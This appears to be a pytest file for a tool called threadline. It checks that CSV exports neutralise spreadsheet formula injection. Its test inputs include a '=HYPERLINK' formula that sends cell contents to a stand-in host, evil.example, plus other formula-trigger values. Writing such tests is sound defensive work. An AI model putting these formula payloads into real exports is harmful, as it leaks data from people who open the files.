"""The one CSV writer: every export's cells safe to open in a spreadsheet (issue 27, finding 9)."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import Engine, insert
from typer.testing import CliRunner

from threadline.cli import app
from threadline.export import neutralise_cell, safe_csv_writer
from threadline.guard import UserRole, create_user
from threadline.store import tables as t

SOURCE = Path(__file__).parents[2] / "src" / "threadline"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("  =1+1", "'  =1+1"),
        ("Ffion Ap-Rhys", "Ffion Ap-Rhys"),
        (None, ""),
    ],
)
def test_neutralise_cell(value: object, expected: str) -> None:
    assert neutralise_cell(value) == expected


def test_numbers_stay_numbers_and_text_is_neutralised() -> None:
    out = io.StringIO()
    writer = safe_csv_writer(out, lineterminator="\n")
    writer.writerow(["-3", -3, 0.25, True, "=1+1"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'-3", "-3", "0.25", "True", "'=1+1"]]


def test_export_mentions_csv_neutralises_a_formula_in_a_name(engine: Engine) -> None:
    """``threadline export mentions --format csv`` wrote ``=HYPERLINK(...)`` as it was."""
    with engine.begin() as conn:
        conn.execute(
            insert(t.mentions).values(
                mention_key="incident:rms-west:INC-ÿ-0001#0",
                record_kind="incident",
                record_key="incident:rms-west:INC-ÿ-0001",
                position="0",
                event_time=datetime(2026, 2, 1, 12, tzinfo=UTC),
                role="victim",
                forenames=HYPERLINK,
                surname="@Pryce",
                dob=None,
            )
        )
    create_user(
        engine,
        "ana",
        "Ana",
        UserRole.analyst,
        "a long passphrase here",
        datetime(2026, 2, 2, tzinfo=UTC),
    )
    url = engine.url.render_as_string(hide_password=False)
    command = ["export", "mentions", "--db", url, "--format", "csv"]
    who = ["--user", "ana", "--purpose", "checking resolution"]
    result = CliRunner().invoke(app, command + who)
    assert result.exit_code == 0, result.output
    header, row = list(csv.reader(io.StringIO(result.output)))
    cells = dict(zip(header, row, strict=True))
    assert cells["forenames"] == "'" + HYPERLINK
    assert cells["surname"] == "'@Pryce"
    assert cells["record_ref"] == "INC-ÿ-0001"


def test_no_export_writes_csv_around_the_safe_writer() -> None:
    """Every CSV export goes through threadline.export: no other module builds a csv writer.
    The synthetic force is the one exception: it writes a handset's call log as the handset does
    (a number such as +447700900123 as it is, not neutralised), an input to import, not an
    export a person opens."""
    direct = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(SOURCE))
        for path in SOURCE.rglob("*.py")
        if path != SOURCE / "export" / "csv_file.py"
        and SOURCE / "synth" not in path.parents
        and direct.search(path.read_text())
    ]
    assert offenders == []
